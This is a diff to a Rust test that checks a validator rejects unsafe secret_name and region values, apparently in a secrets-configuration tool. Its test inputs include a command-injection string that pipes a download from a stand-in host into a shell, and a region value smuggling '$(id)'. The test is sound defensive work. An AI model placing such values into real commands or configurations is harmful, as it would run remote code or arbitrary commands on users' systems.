@@ -53,8 +53,16 @@ fn addresses_that_are_none_are_refused_and_not_shown() {
 
 #[test]
 fn what_would_end_in_a_shell_command_is_checked() {
-    let error = error_with("/entries/0/secret_name", json!("name; curl evil | sh"));
-    assert!(error.contains("the secret_name of user alice"), "{error}");
+    for name in [
+        "name; curl evil | sh",
+        "Account_111122223333_User_bob_AccessKey",
+        "Account_222233334444_User_alice_AccessKey",
+        "arn:aws:secretsmanager:eu-central-1:111122223333:secret:Account_111122223333_User_alice_AccessKey-AbCdEf",
+        "",
+    ] {
+        let error = error_with("/entries/0/secret_name", json!(name));
+        assert!(error.contains("the secret_name of user alice"), "{error}");
+    }
     let error = error_with("/region", json!("eu-west-1 $(id)"));
     assert!(error.contains("which is no region"), "{error}");
 }
